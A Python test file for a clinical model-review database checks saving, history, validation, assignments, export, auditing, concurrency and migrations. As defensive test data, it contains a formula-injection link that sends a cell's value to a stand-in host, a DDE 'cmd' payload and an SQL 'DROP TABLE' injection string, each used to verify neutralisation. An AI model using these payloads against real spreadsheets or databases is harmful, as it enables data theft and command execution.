"""The review database on SQLite (the embedded default): saving and editing with history, no
verdict inherited by a new model, validation, assignments, export, hostile text, audit, two
processes writing at once, migrations and a clear message for a database that cannot be reached.
The same store against a real PostgreSQL server: ``test_reviews_postgres.py``."""

from __future__ import annotations

import csv
import io
import json
import multiprocessing as mp
import sqlite3

import pandas as pd
import pytest
import sqlalchemy as sa

from lemof.audit import AuditError, AuditLog, verify_log
from lemof.errors import ConfigError
from lemof.reviews import ReviewDatabaseError, ReviewKey, ReviewStore, default_url, upgrade
from lemof.reviews.engine import engine
from lemof.reviews.export import write_csv, write_parquet
from lemof.reviews.migrate import head
from lemof.reviews.store import EXPORT_COLUMNS, STATUS_COLUMNS
from tests.fixtures.hostile_bundle import MARKDOWN, PAYLOADS

SHA_A, SHA_B = "a" * 64, "b" * 64
FP = "f" * 64


def key(stay: int = 30000001, sha: str = SHA_A, run: str = "run-a") -> ReviewKey:
    return ReviewKey(run_id=run, weights_sha256=sha, cohort_key="synthetic", cohort_fingerprint=FP, stay_id=stay)


@pytest.fixture
def url(tmp_path) -> str:
    return f"sqlite:///{tmp_path / 'reviews.db'}"


class Recorder:
    """An ``audit`` callable that records its calls (and fails on demand)."""

    def __init__(self, fail: bool = False):
        self.calls: list[tuple[str, dict]] = []
        self.fail = fail

    def __call__(self, event: str, **fields) -> None:
        self.calls.append((event, fields))
        if self.fail:
            raise AuditError("the audit log cannot be written (test)")


# -- workers for the multi-process tests (module level: spawned processes import them) ---------------
def save_many(url: str, stays: list[int], reviewer: str, start=None) -> None:
    """Save one review of each stay (a new one each), as a server process would."""
    store = ReviewStore(url)
    if start is not None:
        start.wait()
    for stay in stays:
        store.save(key(stay), reviewer, "agree", note=f"{reviewer} on {stay}")


def edit_same(url: str, reviewer: str, tag: str, n: int, start=None) -> None:
    """Save the same review (one key, one reviewer) ``n`` times, each with another note."""
    store = ReviewStore(url)
    if start is not None:
        start.wait()
    for i in range(n):
        store.save(key(30000001), reviewer, ("agree", "partly", "disagree")[i % 3], note=f"{tag}-{i}")


def run_processes(target, args_list: list[tuple]) -> None:
    ctx = mp.get_context("spawn")
    start = ctx.Barrier(len(args_list))
    procs = [ctx.Process(target=target, args=(*args, start)) for args in args_list]
    for p in procs:
        p.start()
    for p in procs:
        p.join(timeout=240)
    assert [p.exitcode for p in procs] == [0] * len(procs)


def count_rows(url: str) -> tuple[int, int]:
    store = ReviewStore(url)
    with store.engine.connect() as conn:
        return (conn.execute(sa.text("SELECT count(*) FROM reviews")).scalar_one(),
                conn.execute(sa.text("SELECT count(*) FROM review_revisions")).scalar_one())


def check_concurrent_edits(url: str, n: int) -> None:
    """Two processes saved one key ``n`` times each: one review, versions 1..2n, every save once."""
    store = ReviewStore(url)
    (record,) = store.reviews_of_stay(FP, 30000001)
    assert record.version == 2 * n
    history = store.history(record.id)
    assert [r.version for r in history] == list(range(1, 2 * n + 1))
    with store.engine.connect() as conn:
        snapshots = [json.loads(s) if isinstance(s, str) else s for s in conn.execute(sa.text("SELECT snapshot FROM review_revisions")).scalars()]
    assert sorted(s["note"] for s in snapshots) == sorted([f"p1-{i}" for i in range(n)] + [f"p2-{i}" for i in range(n)])


def check_migration_from_0001(url: str) -> None:
    """A database at the first schema, with a review written by it, migrated to the newest."""
    assert upgrade(url, "0001") == (None, "0001")
    eng = engine(url)
    assert "rating_drivers" not in {c["name"] for c in sa.inspect(eng).get_columns("reviews")}
    with eng.begin() as conn:
        conn.execute(sa.text(
            "INSERT INTO reviews (run_id, weights_sha256, cohort_key, cohort_fingerprint, stay_id, reviewer, verdict, estimate_days, note, "
            "predicted_los_days, created_at, updated_at, version) VALUES ('run-old', :sha, 'synthetic', :fp, 30000007, 'ana@h.org', 'partly', "
            "4.5, 'old note', 3.25, :t, :t, 1)"), {"sha": SHA_A, "fp": FP, "t": pd.Timestamp("2026-06-01T10:00:00Z").to_pydatetime()})
    assert upgrade(url) == ("0001", head())
    store = ReviewStore(url, upgrade=False)
    (old,) = store.reviews_of_stay(FP, 30000007)
    assert (old.run_id, old.verdict, old.estimate_days, old.note, old.predicted_los_days, old.version) == ("run-old", "partly", 4.5, "old note", 3.25, 1)
    assert old.ratings == {} and old.created_at == pd.Timestamp("2026-06-01T10:00:00Z").to_pydatetime()
    assert store.status(FP, SHA_A, "ana@h.org")["assigned_to_me"].tolist() == [False]  # the new table is there, empty
    saved = store.save(key(30000007), "ana@h.org", "partly", estimate_days=4.5, note="old note", ratings={"ecg": "misleading"})
    assert saved.version == 2 and saved.ratings == {"ecg": "misleading"}
    with pytest.raises(sa.exc.IntegrityError):  # the new CHECK constraint holds after the migration
        with eng.begin() as conn:
            conn.execute(sa.text("UPDATE reviews SET rating_ecg = 'great'"))
    with pytest.raises(sa.exc.IntegrityError):  # and so does the old one
        with eng.begin() as conn:
            conn.execute(sa.text("UPDATE reviews SET verdict = 'maybe'"))


def check_upgrade_from_empty(url: str) -> None:
    with pytest.raises(ReviewDatabaseError, match="has no review tables yet: run `python -m lemof db upgrade"):
        ReviewStore(url, upgrade=False)
    assert upgrade(url) == (None, head())
    assert upgrade(url) == (head(), head())  # again: nothing to do
    store = ReviewStore(url, upgrade=False)
    assert store.schema_version() == head()
    assert store.save(key(), "ana@h.org", "agree").version == 1


def check_status(url: str) -> None:
    store = ReviewStore(url)
    store.save(key(1), "ana@h.org", "agree")
    store.save(key(1), "ben@h.org", "disagree")
    store.save(key(2), "ben@h.org", "partly")
    store.save(key(3, sha=SHA_B), "ana@h.org", "agree")
    store.assign("synthetic", FP, [2, 4], "ana@h.org", assigned_by="tess@h.org")
    store.assign("synthetic", FP, [4], "ben@h.org", assigned_by="tess@h.org")
    status = store.status(FP, SHA_A, "Ana@H.org")
    assert list(status.columns) == list(STATUS_COLUMNS)
    rows = {r.stay_id: r for r in status.itertuples()}
    assert sorted(rows) == [1, 2, 3, 4]
    assert (rows[1].mine, rows[1].my_verdict, rows[1].others, rows[1].other_models, rows[1].assigned_to_me) == (True, "agree", 1, 0, False)
    assert (rows[2].mine, rows[2].my_verdict, rows[2].others, rows[2].assigned_to_me, rows[2].assignees) == (False, None, 1, True, "ana@h.org")
    assert (rows[3].mine, rows[3].others, rows[3].other_models) == (False, 0, 1)
    assert (rows[4].mine, rows[4].assigned_to_me, rows[4].assignees) == (False, True, "ana@h.org,ben@h.org")


# -- tests ------------------------------------------------------------------------------------------
def test_saving_again_updates_the_review_and_keeps_its_history(url):
    store = ReviewStore(url)
    first = store.save(key(), "Ana.Costa@Hospital.org ", "agree", estimate_days=5, ratings={"drivers": "useful"}, note="plausible",
                       predicted_los_days=4.2)
    assert (first.reviewer, first.version, first.ratings, first.predicted_los_days) == ("ana.costa@hospital.org", 1, {"drivers": "useful"}, 4.2)
    assert first.created_at.utcoffset().total_seconds() == 0
    second = store.save(key(), "ana.costa@hospital.org", "partly", estimate_days=7.5, ratings={"drivers": "useful", "ecg": "misleading"},
                        note="ECG finding overstated")
    assert (second.id, second.version, second.created_at) == (first.id, 2, first.created_at)
    assert second.updated_at >= first.updated_at and second.predicted_los_days == 4.2
    history = store.history(first.id)
    assert [(r.version, r.changed_by) for r in history] == [(1, "ana.costa@hospital.org"), (2, "ana.costa@hospital.org")]
    assert history[0].changes == {}
    assert history[1].changes == {"verdict": ["agree", "partly"], "estimate_days": [5.0, 7.5], "rating_ecg": [None, "misleading"],
                                  "note": ["plausible", "ECG finding overstated"]}
    assert store.reviews_of_stay(FP, key().stay_id) == [second]


def test_a_save_that_changes_nothing_writes_nothing(url):
    store, audit = ReviewStore(url), Recorder()
    first = store.save(key(), "ana@h.org", "agree", estimate_days=3.0, ratings={"ecg": "useful"}, note="n", audit=audit)
    again = store.save(key(), "ANA@h.org", "agree", estimate_days=3, ratings={"ecg": "useful"}, note="n", audit=audit)
    assert again == first
    assert count_rows(url) == (1, 1) and len(audit.calls) == 1


def test_a_new_model_does_not_inherit_verdicts(url):
    store = ReviewStore(url)
    store.save(key(sha=SHA_A, run="run-a"), "ana@h.org", "disagree", note="old model")
    mine_new = store.status(FP, SHA_B, "ana@h.org")
    assert mine_new[["stay_id", "mine", "my_verdict", "others", "other_models"]].values.tolist() == [[key().stay_id, False, None, 0, 1]]
    assert store.status(FP, SHA_A, "ana@h.org")["mine"].tolist() == [True]
    assert store.reviews_of_stay(FP, key().stay_id, reviewer="ana@h.org")[0].weights_sha256 == SHA_A
    later = store.save(key(sha=SHA_B, run="run-b"), "ana@h.org", "agree")
    assert later.version == 1  # a review of its own, not an edit of the old model's
    assert [r.run_id for r in store.reviews_of_stay(FP, key().stay_id)] == ["run-b", "run-a"]  # newest first, each naming its model


@pytest.mark.parametrize("kwargs, message", [
    (dict(verdict="maybe"), "verdict 'maybe' is not one of agree, partly, disagree"),
    (dict(estimate_days=float("nan")), "estimate_days must be a number of days from 0 to 365"),
    (dict(estimate_days=-1), "estimate_days must be a number of days from 0 to 365"),
    (dict(estimate_days=365.5), "estimate_days must be a number of days from 0 to 365"),
    (dict(estimate_days="soon"), "estimate_days 'soon' is not a number"),
    (dict(ratings={"shap": "useful"}), "explanation 'shap' cannot be rated: one of drivers, ecg, similar"),
    (dict(ratings={"ecg": "great"}), "rating 'great' of ecg is not one of useful, not_useful, misleading"),
    (dict(note="x" * 4001), "the note is 4001 characters; at most 4000"),
    (dict(note="a\x00b"), "NUL"),
    (dict(reviewer="  "), "the reviewer is empty"),
])
def test_invalid_fields_are_refused_with_a_clear_message(url, kwargs, message):
    store, audit = ReviewStore(url), Recorder()
    args = {"reviewer": "ana@h.org", "verdict": "agree", **kwargs}
    with pytest.raises(ConfigError, match=message.replace("(", r"\(")):
        store.save(key(), args.pop("reviewer"), args.pop("verdict"), audit=audit, **args)
    assert count_rows(url) == (0, 0) and audit.calls == []


def test_a_key_that_does_not_fit_its_columns_is_refused(url):
    store = ReviewStore(url)
    long_run = ReviewKey(run_id="r" * 256, weights_sha256=SHA_A, cohort_key="synthetic", cohort_fingerprint=FP, stay_id=1)
    with pytest.raises(ConfigError, match="run_id must be 1 to 255 characters"):
        store.save(long_run, "ana@h.org", "agree")
    assert count_rows(url) == (0, 0)


def test_edge_values_are_accepted(url):
    store = ReviewStore(url)
    assert store.save(key(1), "ana@h.org", "agree", estimate_days=0, note="x" * 4000).estimate_days == 0.0
    assert store.save(key(2), "ana@h.org", "agree", estimate_days=365).estimate_days == 365.0


def test_status_counts_reviews_and_assignments(url):
    check_status(url)


def test_assignments(url):
    store, audit = ReviewStore(url), Recorder()
    assert store.assign("synthetic", FP, [3, 1, 2, 2], "Ben@h.org", assigned_by="tess@h.org", audit=audit) == 3
    assert store.assign("synthetic", FP, [2, 3, 5], "ben@h.org", assigned_by="tess@h.org", audit=audit) == 1
    assert store.assign("synthetic", FP, [1], "ben@h.org", assigned_by="tess@h.org", audit=audit) == 0
    assert [(e, f["stays"], f["reviewer"]) for e, f in audit.calls] == [("review.assign", [1, 2, 3], "ben@h.org"), ("review.assign", [5], "ben@h.org")]
    status = store.status(FP, SHA_A, "ben@h.org")
    assert status["stay_id"].tolist() == [1, 2, 3, 5] and status["assigned_to_me"].all()
    assert not store.status(FP, SHA_A, "ana@h.org")["assigned_to_me"].any()
    assert store.status("another-cohort", SHA_A, "ben@h.org").empty
    assert store.unassign(FP, [1, 2, 9], "ben@h.org", by="tess@h.org", audit=audit) == 2
    assert audit.calls[-1][0] == "review.unassign" and audit.calls[-1][1]["stays"] == [1, 2]
    assert store.status(FP, SHA_A, "ben@h.org")["stay_id"].tolist() == [3, 5]


def test_export_has_the_columns_and_neutralises_formula_cells(url, tmp_path):
    store = ReviewStore(url)
    hostile = '=HYPERLINK("https://example.invalid/?x="&A1,"click")'
    store.save(key(1), "ana@h.org", "partly", estimate_days=6, ratings={"similar": "not_useful"}, note=hostile, predicted_los_days=4.0)
    store.save(key(2), "@ben@h.org", "agree", note="-1+2 and\nsecond line")
    table = store.reviews()
    assert list(table.columns) == list(EXPORT_COLUMNS)
    assert table["note"].tolist() == [hostile, "-1+2 and\nsecond line"]  # stored as typed
    text = io.StringIO()
    assert write_csv(table, text) == 2
    rows = list(csv.DictReader(io.StringIO(text.getvalue())))
    assert rows[0]["note"] == "'" + hostile and rows[1]["note"] == "'-1+2 and\nsecond line" and rows[1]["user"] == "'@ben@h.org"
    assert (rows[0]["stay_id"], rows[0]["verdict"], rows[0]["estimate_days"], rows[0]["rating_similar"], rows[0]["rating_drivers"]) == ("1", "partly", "6.0", "not_useful", "")
    assert rows[1]["estimate_days"] == "" and rows[0]["created_at"].endswith("+00:00")
    assert store.reviews(since=pd.Timestamp("2999-01-01", tz="UTC").to_pydatetime()).empty
    assert store.reviews(weights_sha256=SHA_B).empty and len(store.reviews(cohort_fingerprint=FP)) == 2
    out = tmp_path / "reviews.parquet"
    assert write_parquet(table, out) == 2
    back = pd.read_parquet(out)
    assert list(back.columns) == list(EXPORT_COLUMNS) and back["note"].tolist() == [hostile, "-1+2 and\nsecond line"]


def test_hostile_text_round_trips_byte_exact(url, tmp_path):
    store = ReviewStore(url)
    texts = [*PAYLOADS, MARKDOWN, "'; DROP TABLE reviews; --", "Ω ‮RTL‬ 🚑\r\n\ttab", "\\x00 not a NUL", "\u2028line separator"]
    for stay, text in enumerate(texts, start=1):
        store.save(key(stay), "ana@h.org", "agree", note=text)
    assert [store.reviews_of_stay(FP, stay)[0].note for stay in range(1, len(texts) + 1)] == texts
    write_parquet(store.reviews(), tmp_path / "r.parquet")
    assert pd.read_parquet(tmp_path / "r.parquet")["note"].tolist() == texts
    assert count_rows(url) == (len(texts), len(texts))  # the DROP TABLE stayed text


def test_every_write_is_one_audit_call_and_a_failing_audit_rolls_back(url):
    store, audit = ReviewStore(url), Recorder()
    record = store.save(key(), "ana@h.org", "agree", audit=audit)
    store.save(key(), "ana@h.org", "disagree", audit=audit)
    assert audit.calls == [
        ("review.save", dict(cohort="synthetic", run="run-a", stay=key().stay_id, review_id=record.id, version=1, verdict="agree")),
        ("review.save", dict(cohort="synthetic", run="run-a", stay=key().stay_id, review_id=record.id, version=2, verdict="disagree")),
    ]
    with pytest.raises(AuditError):
        store.save(key(), "ana@h.org", "partly", note="not kept", audit=Recorder(fail=True))
    with pytest.raises(AuditError):
        store.save(key(2), "ana@h.org", "partly", audit=Recorder(fail=True))
    assert count_rows(url) == (1, 2)
    assert store.reviews_of_stay(FP, key().stay_id)[0].verdict == "disagree"
    with pytest.raises(AuditError):
        store.assign("synthetic", FP, [1], "ben@h.org", assigned_by="tess@h.org", audit=Recorder(fail=True))
    assert store.status(FP, SHA_A, "ben@h.org")["assigned_to_me"].sum() == 0


def test_a_commit_that_fails_after_the_audit_entry_is_recorded(url, monkeypatch):
    store, audit = ReviewStore(url), Recorder()

    def broken_commit(self):
        raise sa.exc.OperationalError("COMMIT", {}, Exception("disk I/O error"))

    monkeypatch.setattr(sa.orm.Session, "commit", broken_commit)
    with pytest.raises(ReviewDatabaseError, match="did not commit \\(disk I/O error\\); the review was not saved"):
        store.save(key(), "ana@h.org", "agree", audit=audit)
    assert [e for e, _ in audit.calls] == ["review.save", "review.save_failed"]
    assert audit.calls[1][1]["reason"] == "disk I/O error" and audit.calls[1][1]["stay"] == key().stay_id
    monkeypatch.undo()
    assert count_rows(url) == (0, 0)


def test_with_a_real_audit_log_the_entries_chain(url, tmp_path):
    log = AuditLog(tmp_path / "audit.jsonl")
    store = ReviewStore(url)
    store.save(key(), "ana@h.org", "agree", audit=lambda event, **f: log.append(event, user="ana@h.org", role="viewer", **f))
    entries = [json.loads(line) for line in log.path.read_text().splitlines()]
    assert [(e["event"], e["stay"], e["version"]) for e in entries] == [("review.save", key().stay_id, 1)]
    assert verify_log(log.path).ok


def test_two_processes_writing_at_once_lose_nothing(url):
    run_processes(save_many, [(url, list(range(1, 201)), "ana@h.org"), (url, list(range(1001, 1201)), "ben@h.org")])
    assert count_rows(url) == (400, 400)


def test_the_same_review_saved_by_two_processes_at_once_stays_one(url):
    ReviewStore(url)  # the schema before the race
    run_processes(edit_same, [(url, "ana@h.org", "p1", 40), (url, "ana@h.org", "p2", 40)])
    check_concurrent_edits(url, 40)


def test_migrating_from_the_first_schema_keeps_the_reviews(url):
    check_migration_from_0001(url)
    with sqlite3.connect(url.removeprefix("sqlite:///")) as conn:
        assert conn.execute("PRAGMA journal_mode").fetchone() == ("wal",)


def test_upgrade_from_an_empty_database(url):
    check_upgrade_from_empty(url)


def test_a_database_at_an_older_revision_is_refused_with_what_to_run(url):
    upgrade(url, "0001")
    with pytest.raises(ReviewDatabaseError, match=f"is at schema revision 0001, not {head()}: run `python -m lemof db upgrade"):
        ReviewStore(url, upgrade=False)
    with pytest.raises(ReviewDatabaseError, match="unknown schema revision '0099'"):
        upgrade(url, "0099")


def test_an_unreachable_database_names_the_host_and_hides_the_password():
    url = "postgresql+psycopg://lemof:s3cret-pw@127.0.0.1:1/lemof"
    with pytest.raises(ReviewDatabaseError) as caught:
        ReviewStore(url)
    message = str(caught.value)
    assert "127.0.0.1" in message and "postgresql+psycopg://lemof:***@127.0.0.1:1/lemof" in message
    assert "s3cret-pw" not in message and "LEMOF_DATABASE_URL" in message
    with pytest.raises(ReviewDatabaseError) as caught:
        upgrade(url)
    assert "s3cret-pw" not in str(caught.value) and "the schema was not changed" in str(caught.value)


def test_the_default_database_is_a_private_sqlite_file_in_the_cache(monkeypatch, tmp_path):
    monkeypatch.setenv("LEMOF_CACHE_DIR", str(tmp_path / "cache"))
    monkeypatch.delenv("LEMOF_DATABASE_URL", raising=False)
    assert default_url() == f"sqlite:///{tmp_path / 'cache' / 'reviews' / 'reviews.db'}"
    assert (tmp_path / "cache" / "reviews").stat().st_mode & 0o777 == 0o700
    assert ReviewStore().schema_version() == head()  # created and migrated on first use: nothing to start
    monkeypatch.setenv("LEMOF_DATABASE_URL", "postgresql+psycopg://lemof@db.hospital.org/lemof")
    assert default_url() == "postgresql+psycopg://lemof@db.hospital.org/lemof"


def test_cli_review_add_and_export(tiny_run, tiny_cohort, tmp_path, monkeypatch, capsys):
    from lemof.cli import main
    from lemof.data.bundle import open_bundle
    from lemof.runs.load import load_run

    monkeypatch.setenv("LEMOF_AUDIT_LOG", str(tmp_path / "audit.jsonl"))
    db = f"sqlite:///{tmp_path / 'cli.db'}"
    bundle, run = open_bundle(tiny_cohort), load_run(tiny_run)
    stay = int(bundle.stays["stay_id"].iloc[0])
    common = ["--run", str(tiny_run), "--data", str(tiny_cohort), "--url", db]
    assert main(["review", "add", *common, "--stay", str(stay), "--user", "Ana@H.org", "--verdict", "partly", "--estimate-days", "4.5",
                 "--note", "=cmd|' /C calc'!A0", "--rating", "drivers=useful", "--rating", "ecg=misleading"]) == 0
    saved = json.loads(capsys.readouterr().out)
    expected = float(run.stored_rows([stay])["los_days"].iloc[0])
    assert (saved["reviewer"], saved["verdict"], saved["estimate_days"], saved["ratings"]) == ("ana@h.org", "partly", 4.5, {"drivers": "useful", "ecg": "misleading"})
    assert (saved["weights_sha256"], saved["cohort_fingerprint"], saved["stay_id"], saved["run_id"]) == (run.weights_sha256, bundle.fingerprint, stay, run.run_id)
    assert saved["predicted_los_days"] == pytest.approx(expected, rel=1e-12)  # the stored prediction, read back as stored
    assert main(["review", "add", *common, "--stay", "999999999", "--user", "ana@h.org", "--verdict", "agree"]) == 2
    assert "stay 999999999 is not in cohort" in capsys.readouterr().err
    assert main(["review", "add", *common, "--stay", str(stay), "--user", "ana@h.org", "--verdict", "agree", "--rating", "ecg"]) == 2
    assert "is not EXPLANATION=RATING" in capsys.readouterr().err
    assert main(["review", "export", "--url", db, "--since", "2026-01-01"]) == 0
    out = capsys.readouterr()
    (row,) = list(csv.DictReader(io.StringIO(out.out)))
    assert row["note"] == "'=cmd|' /C calc'!A0" and row["user"] == "ana@h.org" and row["run"] == run.run_id and "1 reviews" in out.err
    assert main(["review", "export", "--url", db, "--format", "parquet", "--out", str(tmp_path / "r.parquet")]) == 0
    assert pd.read_parquet(tmp_path / "r.parquet")["note"].tolist() == ["=cmd|' /C calc'!A0"]
    entries = [json.loads(line) for line in (tmp_path / "audit.jsonl").read_text().splitlines()]
    assert [e["event"] for e in entries] == ["review.save", "review.export", "review.export"]
    assert entries[0]["user"].startswith("cli:") and entries[0]["reviewer"] == "ana@h.org" and entries[1]["rows"] == 1


def test_the_head_revision_the_code_checks_is_alembics_own_head():
    """``migrate.HEAD`` (read at every server start without loading Alembic) names the newest script."""
    from alembic.script import ScriptDirectory

    from lemof.reviews import migrate

    assert migrate.head() == ScriptDirectory.from_config(migrate._config()).get_current_head()
